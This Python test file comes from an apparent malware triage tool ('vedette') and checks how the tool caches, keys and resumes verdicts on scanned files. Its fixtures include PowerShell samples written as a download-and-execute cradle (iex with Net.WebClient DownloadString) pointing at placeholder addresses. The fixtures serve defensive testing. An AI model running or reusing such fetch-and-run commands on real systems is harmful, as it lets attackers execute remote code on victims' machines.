"""What a job has judged already: found again by content, and gone on with after a pause."""

import os
import threading
from pathlib import Path

import msgspec
import pytest

from vedette.app import triagework
from vedette.app.job_answers import Wish
from vedette.app.jobs import Progress
from vedette.app.jobwork import Outcome, Task, judge_things
from vedette.app.judgedbefore import Folder, key_of
from vedette.app.plainfiles import PlainFile
from vedette.app.requests import Triage
from vedette.app.things import Thing
from vedette.scale.processes import Bounds, Processes, Stopped

ASK = Triage(targets=("x",))


def thing(path: Path, name: str = "a.ps1") -> Thing:
    return Thing(name, (PlainFile(name=name, path=path, size=path.stat().st_size, modified=0),))


def test_a_thing_is_known_by_its_content_wherever_it_lies(tmp_path: Path) -> None:
    one, other = tmp_path / "one", tmp_path / "other"
    one.write_bytes(b"iex 1")
    other.write_bytes(b"iex 1")
    key = key_of(thing(one), ASK)
    assert key == key_of(thing(other), ASK)
    other.write_bytes(b"iex 2")
    assert key != key_of(thing(other), ASK)
    assert key != key_of(thing(one, "b.ps1"), ASK)
    assert key != key_of(thing(one), Triage(targets=("x",), passwords=("infected",)))
    gone = thing(other)
    other.unlink()
    with pytest.raises(FileNotFoundError):
        key_of(gone, ASK)


def test_what_was_put_is_there_for_the_next_process(tmp_path: Path) -> None:
    Folder(tmp_path / "seen").put(b"\x01", b"said")
    again = Folder(tmp_path / "seen")
    assert again.get_many([b"\x01", b"\x02"]) == {b"\x01": b"said"}
    assert again.close() == ()


def test_nothing_is_kept_beyond_its_room(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vedette.app.judgedbefore._MOST_BYTES", 5)
    kept = Folder(tmp_path / "seen")
    kept.put(b"\x01", b"four")
    kept.put(b"\x02", b"two more")
    assert (kept.get(b"\x01"), kept.get(b"\x02")) == (b"four", None)


def test_a_job_that_was_stopped_goes_on_from_what_it_has_judged(tmp_path: Path) -> None:
    source, folder = tmp_path.resolve() / "src", tmp_path / "job"
    source.mkdir()
    folder.mkdir()
    for number in range(6):
        (source / f"s{number}.ps1").write_text(
            f"iex ((New-Object Net.WebClient).DownloadString('x{number}'))\n"
        )
    given = msgspec.json.encode(Task(wish=Wish(path=str(source)), origin="folder:src", folder=str(folder)))
    bounds, stop = Bounds(seconds=120, memory=4 << 30), threading.Event()

    def listen(word: bytes) -> None:
        if msgspec.json.decode(word, type=Progress).done:
            stop.set()

    with pytest.raises(Stopped):
        Processes().run(judge_things, given, bounds, listen, stop)
    seen = list((folder / "seen").iterdir())
    assert 0 < len(seen) <= 6
    answer = Processes().run(judge_things, given, bounds, lambda _: None, threading.Event())
    assert msgspec.json.decode(answer, type=Outcome).counts["files"] == 6
    assert not (folder / "seen").exists(), "what it had seen is gone with it"


def test_what_was_judged_is_not_judged_again(tmp_path: Path) -> None:
    """An answer of before stands in for the work: here one that gives the thing another name."""
    source, folder = tmp_path.resolve() / "src", tmp_path / "job"
    source.mkdir()
    folder.mkdir()
    (source / "a.ps1").write_text("iex 1\n")
    wish = Triage(targets=(str(source),))
    answer = triagework.work(
        msgspec.json.encode(triagework.Thing(path=os.fsencode(source / "a.ps1"), name="a.ps1"))
    )
    Folder(folder / "seen").put(key_of(thing(source / "a.ps1"), wish), answer.replace(b"a.ps1", b"z.ps1"))
    given = msgspec.json.encode(Task(wish=Wish(path=str(source)), origin="folder:src", folder=str(folder)))
    bounds = Bounds(seconds=120, memory=4 << 30)
    Processes().run(judge_things, given, bounds, lambda _: None, threading.Event())
    assert b"z.ps1" in (folder / "report.json").read_bytes()
